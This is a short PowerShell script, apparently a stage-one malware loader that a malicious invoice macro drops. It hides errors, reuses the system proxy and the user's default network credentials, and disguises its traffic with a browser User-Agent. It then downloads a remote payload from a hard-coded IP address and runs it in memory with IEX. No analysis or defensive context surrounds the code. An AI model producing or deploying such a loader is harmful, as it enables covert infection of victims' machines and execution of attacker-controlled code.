# Stage-one loader dropped by the invoice macro
$ErrorActionPreference = 'SilentlyContinue'
$proxy = [System.Net.WebRequest]::GetSystemWebProxy()
$proxy.Credentials = [System.Net.CredentialCache]::DefaultCredentials
$wc = New-Object System.Net.WebClient
$wc.Proxy = $proxy
$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
$stage = $wc.DownloadString('http://203.0.113.45/news/update.txt')
if ($stage) {
    IEX $stage
}
